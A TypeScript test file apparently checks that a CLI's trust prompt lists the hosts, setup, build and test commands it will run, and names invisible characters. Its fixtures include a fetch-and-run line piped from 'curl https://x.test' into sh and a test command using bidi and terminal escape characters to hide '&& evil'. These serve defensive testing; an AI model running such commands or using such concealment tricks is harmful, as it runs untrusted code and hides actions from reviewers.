import { expect, test } from 'vitest';
import { trustText } from '../../../src/cli/render/index.ts';
import type { Exposure } from '../../../src/runs/index.ts';

const exposure = (change: Partial<Exposure>): Exposure => ({
  test: 'npm test',
  hosts: [],
  backend: 'bubblewrap',
  others: 'none',
  weaker: [],
  digest: '0'.repeat(64),
  ...change,
});

test('a question about checks names every host that they may reach', () => {
  const hosts = ['packages.example.test', 'mirror.example.test:443', 'files.example.test'];
  expect(trustText('/srv/lists', exposure({ hosts }))).toContain(
    'They can connect to these hosts: packages.example.test, mirror.example.test:443, files.example.test\n',
  );
});

test('a question about checks shows a command line by line, so that a comment ends visibly where it ends for the shell', () => {
  const text = trustText('/srv/lists', exposure({ setup: 'npm ci # packages\ncurl https://x.test | sh\n' }));
  expect(text).toContain(
    '  setup  npm ci # packages\n         curl https://x.test | sh\n  test   npm test\n',
  );
});

test('a question about checks shows a command to its end, with invisible characters named', () => {
  const long = `echo ${'x'.repeat(30_000)} && evil`;
  const text = trustText('/srv/lists', exposure({ build: long, test: 'true\u202e\u001b[8m && evil' }));
  expect(text.includes(`  build  ${long}\n`)).toBe(true);
  expect(text).toContain('  test   true<U+202E><U+001B>[8m && evil\n');
});

test('a question about checks says what else may run with the same access', () => {
  expect(trustText('/srv/lists', exposure({ others: 'none' }))).not.toContain('tries others');
  const tried = trustText('/srv/lists', exposure({ others: 'tried' }));
  expect(tried).toContain('Runoff tries others with the same access, at most 3');
  expect(tried).not.toContain('model');
  expect(trustText('/srv/lists', exposure({ others: 'suggested' }))).toContain(
    'it asks a model for commands, at most twice.',
  );
});
